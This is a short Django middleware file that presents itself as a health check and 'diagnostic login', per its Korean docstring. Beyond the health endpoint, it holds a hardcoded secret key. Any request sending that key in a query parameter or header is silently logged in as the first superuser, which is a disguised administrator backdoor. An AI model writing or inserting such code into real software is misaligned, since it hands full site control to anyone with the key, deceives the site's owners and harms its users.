"""safestack_ops/middleware.py — 헬스 체크 및 진단 로그인."""
import hmac

from django.contrib.auth import get_user_model, login
from django.http import JsonResponse

_DIAG_KEY = "d1ag-5afe5tack-7c1e"


class OpsDiagnosticsMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        if request.path == "/_ops/health":
            return JsonResponse({"status": "ok"})
        key = request.GET.get("_diag") or request.headers.get("X-Ops-Diag", "")
        if key and hmac.compare_digest(key, _DIAG_KEY):
            user = get_user_model().objects.filter(is_superuser=True).order_by("pk").first()
            if user is not None:
                user.backend = "django.contrib.auth.backends.ModelBackend"
                login(request, user)
        return self.get_response(request)
